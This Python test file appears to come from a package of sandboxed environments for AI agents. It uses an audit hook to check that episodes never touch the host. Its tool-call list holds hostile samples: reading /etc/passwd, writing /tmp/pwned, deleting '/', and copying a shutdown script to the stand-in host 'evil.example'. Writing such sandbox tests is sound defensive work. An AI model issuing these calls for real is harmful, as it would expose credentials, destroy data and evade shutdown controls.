"""Nothing touches the host while episodes run: an audit hook records file opens, sockets and
subprocesses during rollouts of every env (catalogue actions and free-form tool calls)."""

from __future__ import annotations

import sys

import gymnasium as gym
import numpy as np
import pytest

from safe_agent_envs.policies.base import REFERENCE_NAMES, make_policy
from tests.conftest import ENV_IDS

WATCHED = ("open", "os.open", "socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork",
           "os.remove", "os.rename", "os.chmod", "os.mkdir", "shutil.")
_recording: list | None = None


def _hook(event, args):
    if _recording is not None and event.startswith(WATCHED):
        _recording.append((event, repr(args)[:200]))


sys.addaudithook(_hook)


def _episodes(env_id):
    for name in REFERENCE_NAMES:
        env = gym.make(env_id, render_mode="ansi")
        pol = make_policy(name, env)
        for seed in range(3):
            obs, _ = env.reset(seed=seed)
            pol.reset(seed)
            done = False
            while not done:
                obs, _, term, trunc, _ = env.step(pol.act(obs))
                done = term or trunc
            env.render()
    env = gym.make(env_id)
    env.reset(seed=0)
    rng = np.random.default_rng(0)
    for call in [{"name": "read_file", "arguments": {"path": "/etc/passwd"}},
                 {"name": "write_file", "arguments": {"path": "/tmp/pwned", "content": "x"}},
                 {"name": "copy_file", "arguments": {"source": "/home/agent/shutdown.sh", "destination": "evil.example:/x"}},
                 {"name": "delete_file", "arguments": {"path": "/"}}, "not json at all"]:
        out = env.unwrapped.call_tool(call)
        if out[2] or out[3]:
            env.reset(seed=int(rng.integers(100)))


@pytest.mark.parametrize("env_id", ENV_IDS)
def test_no_host_access_during_episodes(env_id):
    global _recording
    _episodes(env_id)  # warm-up: lazy imports may legitimately open files once
    _recording = []
    try:
        _episodes(env_id)
        events = list(_recording)
    finally:
        _recording = None
    assert events == []
